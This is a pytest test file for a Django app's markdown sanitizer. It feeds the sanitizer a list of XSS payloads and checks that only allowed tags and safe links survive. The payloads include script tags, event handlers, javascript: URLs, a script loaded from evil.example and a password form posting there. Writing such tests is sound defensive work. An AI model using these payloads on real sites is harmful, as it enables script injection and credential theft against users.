import re
import time

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from reviewapp.common.markdown import TAGS, contents, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](<https://a.example/" onclick="alert(1)>)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<!-- a comment --> <!--><script>alert(1)</script>-->",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "``` \"onload=alert(1)\nx\n```",
    "# <script>alert(1)</script>",
    '# " onmouseover="alert(1)',
    "| a <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
]  # fmt: skip
ATTRIBUTE = re.compile(r"""\s([\w:-]+)\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)""")


def harmless(html):
    """Whether the HTML is only tags of the list, with only attributes of the list."""
    for tag in re.findall(r"<[^>]*>", html):
        name = re.match(r"</?([a-z0-9]+)", tag)
        assert name, tag
        assert name.group(1) in TAGS, tag
        for attribute in ATTRIBUTE.findall(tag):
            assert attribute in ("href", "title", "id", "start", "rel"), tag
        for address in re.findall(r'href="([^"]*)"', tag):
            assert re.match(r"(https?://|mailto:|#|/[^/])", address), tag
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_nothing_that_acts(text):
    assert harmless(to_html(text))


@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", "- ", "> ", "**", "[", "](", "<", ">", '"', "x"]), max_size=12))
def test_no_mixture_of_hostile_pieces_acts(pieces):
    assert harmless(to_html("".join(pieces)))


def test_the_text_of_refused_html_stays_readable():
    assert "&lt;script&gt;" in to_html("<script>alert(1)</script>")


@pytest.mark.parametrize(
    "text",
    [">" * 20_000, "- " * 20_000, "[" * 20_000, "*" * 20_000, "`" * 20_001, "(" * 5000 + "[x](" * 5000, "# " * 20_000,
     "\n".join("  " * number + "- x" for number in range(400)), "|" * 20_000 + "\n" + "|-" * 10_000],
    ids=range(9),
)  # fmt: skip
def test_huge_nesting_ends_soon(text):
    began = time.monotonic()

    assert harmless(to_html(text))
    assert time.monotonic() - began < 10


def test_links_say_nothing_of_where_one_came_from():
    assert to_html("[a](https://a.example)") == '<p><a href="https://a.example" rel="noopener nofollow">a</a></p>\n'


def test_tables_and_lists_are_kept():
    html = to_html("1. one\n2. two\n\n| a | b |\n|---|---|\n| c | d |")

    assert "<ol>" in html
    assert "<td>c</td>" in html


def test_headings_begin_below_the_pages_own_and_have_ids():
    text = "# What counts\n\n## Pairs & *doubts*\n\nOther\n=====\n\nMore\n----\n\n"
    text += "## What counts\n\n###### Deep\n\n# Ünï\n\n# !"
    found = contents(text)

    assert [(one.level, one.id) for one in found] == [
        (2, "part-what-counts"), (3, "part-pairs-doubts"), (2, "part-other"), (3, "part-more"),
        (3, "part-what-counts-2"), (6, "part-deep"), (2, "part-uni"), (2, "part-section"),
    ]  # fmt: skip
    html = to_html(text)
    assert all(f'<h{one.level} id="{one.id}">' in html for one in found)
    assert found[1].text == "Pairs & doubts"


def test_the_filter_marks_only_cleaned_text_as_markup():
    page = Template("{% load ui %}{{ text|markdown }}").render(Context({"text": "**a** <script>b</script>"}))

    assert page.strip() == "<p><strong>a</strong> &lt;script&gt;b&lt;/script&gt;</p>"


def test_a_preview_has_no_ids_since_the_page_has_them_already():
    page = Template('{{ "# A"|markdown:"preview" }}{{ "# A"|markdown }}').render(Context())

    assert page.split() == ["<h2>A</h2>", "<h2", 'id="part-a">A</h2>']
